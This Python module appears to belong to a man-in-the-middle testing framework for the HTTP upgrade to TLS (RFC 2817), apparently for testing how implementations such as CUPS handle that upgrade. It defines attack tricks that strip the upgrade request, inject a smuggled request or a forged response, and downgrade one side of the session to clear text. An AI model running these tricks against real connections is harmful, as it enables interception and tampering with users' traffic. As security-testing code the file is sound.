# SPDX-License-Identifier: GPL-2.0-or-later
"""What a man in the middle does to the upgrade in HTTP (RFC 2817)."""
import re

from attacker import Trick
from protocol import Protocol, answer, at_request, behind_acceptance, handshake_tricks, races, request_tricks, then_tls
from protocol import upgrade

LENGTH = re.compile(rb"\r\nContent-Length: *(\d+)", re.I)
UPGRADE = re.compile(rb"\r\n(?:Upgrade: *TLS|Connection: *Upgrade)[^\r]*", re.I)
OPTIONS = b"OPTIONS * HTTP/1.1\r\nHost: print.example\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n"
GRANT = b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n"
DECLINE = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
DEMAND = (b"HTTP/1.1 426 Upgrade Required\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2\r\nContent-Length: 0\r\n\r\n")
FORGED = b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nforged"


def size(data):
    """Where a head with its body ends, 0 when it has not come as a whole."""
    end = data.find(b"\r\n\r\n") + 4
    if end < 4:
        return 0
    body = LENGTH.search(data[:end])
    return end + (int(body.group(1)) if body else 0)


class Http(Protocol):
    begins = ()

    def unit(self, talk, from_client, data):
        return size(data)

    def is_last(self, talk, asked, unit):
        return not unit.startswith(b"HTTP/1.1 100")

    def asks(self, unit):
        return re.search(rb"\r\nUpgrade: *TLS", unit, re.I) is not None

    def answer(self, unit, text):
        return text

    def upgrade(self, talk):
        super().upgrade(talk)
        self.ask(talk, None)            # the answer to OPTIONS comes inside TLS


def without_upgrade(talk, unit):
    return UPGRADE.sub(b"", unit)


def inside(talk, unit):
    """Grant it in the server's name; the request itself is for the server."""
    then_tls(GRANT)(talk, unit)
    return without_upgrade(talk, unit)


def demand_once(talk, unit):
    """What the server said when it was asked in clear, before TLS began with it; then the page all the same."""
    if unit.startswith(b"OPTIONS") or talk.greeting:
        return unit
    talk.greeting = DEMAND
    return answer(DEMAND)(talk, unit)


PROTOCOL = Http(b"", rb"HTTP/1.1 101", rb"\r\n(Upgrade: *TLS)[^\r]*", quietly=(OPTIONS,))

TRICKS = {
    "pass": Trick("forward everything"),
    "take-out": Trick("take the wish for TLS out of the request",
                      command=lambda talk, unit: without_upgrade(talk, unit) if talk.protocol.asks(unit) else unit),
    "inject-command": Trick("put another request behind the one that asks for TLS",
                            command=at_request(lambda talk, unit: unit + b"GET /injected HTTP/1.1\r\nHost: x\r\n\r\n")),
    "inject-response": Trick("put a response behind the 101", reply=behind_acceptance(FORGED)),
    "tls-to-client": Trick("TLS with the client, clear text to the server", command=at_request(inside)),
    "tls-to-server": Trick("clear text with the client, TLS to the server", first=upgrade,
                           command=lambda talk, unit: answer(DECLINE)(talk, unit) if unit.startswith(b"OPTIONS") else unit),
}
TRICKS.update(request_tricks("the request", GRANT, {"decline": DECLINE}))
TRICKS["decline"].what = "answer the request with 200, in clear"
TRICKS["accept-clear"].what = "grant the upgrade and let the session go on in clear"
TRICKS.update(handshake_tricks())
TRICKS["late-tls"] = Trick("demand TLS for a page, and give it in clear when it is asked for again", first=upgrade,
                           command=demand_once)
CUPS_GRANT = (b"HTTP/1.1 101 Switching Protocols\r\nConnection: Keep-Alive\r\nContent-Language: en\r\nContent-Length: 0\r\n"
              b"Date: Mon, 09 Feb 2026 08:00:00 GMT\r\nKeep-Alive: timeout=10\r\nUpgrade: TLS/1.2,TLS/1.1,TLS/1.0\r\n"
              b"Accept-Encoding: gzip, deflate, identity\r\nServer: CUPS/2.4 IPP/2.1\r\nX-Frame-Options: DENY\r\n"
              b"Content-Security-Policy: frame-ancestors 'none'\r\n\r\n")
RACES = races(rb"(?s)OPTIONS .*Upgrade: TLS/1.2\r\n\r\n", CUPS_GRANT, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nX: {fill}\r\n\r\n")
